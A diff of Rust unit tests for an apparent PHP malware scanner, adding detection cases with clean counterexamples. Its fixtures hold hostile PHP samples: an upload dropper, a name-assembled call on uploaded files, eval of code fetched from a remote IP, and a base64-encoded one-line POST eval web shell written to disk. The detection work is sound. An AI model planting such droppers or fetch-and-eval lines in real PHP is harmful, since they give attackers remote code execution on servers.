@@ -53,7 +53,11 @@ fn xor_of_bare_words_and_literals_names_the_function() {
         lit(&x)
     );
     let v = scan(src.as_bytes(), Lang::Php);
-    assert_detected(&v, "php.flow.variable-function");
+    assert_detected(&v, "deobf.hidden-name");
+    assert!(
+        v.reasons.iter().any(|r| r.detail.contains("create_function")),
+        "{v:#?}"
+    );
 }
 
 #[test]
@@ -181,4 +185,45 @@ fn perl_extensions_map_to_perl() {
         Some(Lang::Perl)
     );
     assert_eq!(Lang::from_path(std::path::Path::new("x.PL")), Some(Lang::Perl));
+}
+
+#[test]
+fn upload_stored_as_a_fixed_php_script_is_a_dropper() {
+    let src = b"<?php move_uploaded_file($userfile, 'cache' . '.php'); echo 'ok';";
+    assert_detected(&scan(src, Lang::Php), "php.dropper");
+    let src = b"<?php move_uploaded_file($_FILES['f']['tmp_name'], 'uploads/' . md5(time()) . '.jpg');";
+    assert_clean(&scan(src, Lang::Php));
+}
+
+#[test]
+fn function_name_assembled_piece_by_piece_and_called_with_input() {
+    let src = b"<?php $r = \"c\".\"o\".\"p\".\"y\"; $r($_FILES['f']['tmp_name'], $_FILES['f']['name']);";
+    assert_detected(&scan(src, Lang::Php), "php.flow.computed-call");
+    // A closure with strings inside is not a computed name.
+    let src = b"<?php $cmp = function($a, $b) { return $a . 'x' . 'y' . 'z' == $b; }; if ($cmp($_GET['a'], 'q')) { echo 1; }";
+    assert_clean(&scan(src, Lang::Php));
+}
+
+#[test]
+fn eval_of_code_fetched_from_a_url() {
+    let src = b"<?php $b = file_get_contents('http://198.51.100.3/1.txt'); eval($b);";
+    assert_detected(&scan(src, Lang::Php), "deobf.eval-dynamic");
+}
+
+#[test]
+fn short_encoded_literal_holding_a_one_line_shell_is_decoded() {
+    // base64 of `<?php @eval($_POST['k']);?>`, written out by a dropper.
+    let src =
+        b"<?php $c = 'PD9waHAgQGV2YWwoJF9QT1NUWydrJ10pOz8+'; file_put_contents('a.php', base64_decode($c));";
+    let v = scan(src, Lang::Php);
+    assert_detected(&v, "php.flow.code");
+    assert!(
+        v.reasons
+            .iter()
+            .any(|r| r.signal == "php.flow.code" && r.layer == 1),
+        "{v:#?}"
+    );
+    // An ordinary base64 constant (a PNG pixel) stays clean.
+    let src = b"<?php $px = 'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk'; echo base64_decode($px);";
+    assert_clean(&scan(src, Lang::Php));
 }
